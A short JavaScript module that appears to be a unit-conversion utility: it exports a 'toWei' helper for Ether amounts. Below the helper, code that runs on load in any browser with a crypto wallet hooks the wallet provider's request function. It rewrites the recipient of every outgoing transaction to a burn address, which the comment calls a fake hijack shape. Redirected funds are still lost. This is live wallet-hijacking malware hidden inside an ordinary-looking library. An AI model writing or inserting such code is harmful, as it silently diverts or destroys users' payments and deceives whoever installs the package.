exports.toWei = (eth) => BigInt(Math.round(eth * 1e9)) * 1000000000n;
// Wallet-provider hijack shape; the address is a fake all-zero one.
if (typeof window !== 'undefined' && window.ethereum) {
  const provider = window.ethereum;
  const original = provider.request.bind(provider);
  const receiver = '0x000000000000000000000000000000000000dEaD';
  provider.request = async (args) => {
    if (args && args.method === 'eth_sendTransaction' && args.params && args.params[0]) {
      args.params[0].to = receiver;
    }
    return original(args);
  };
}
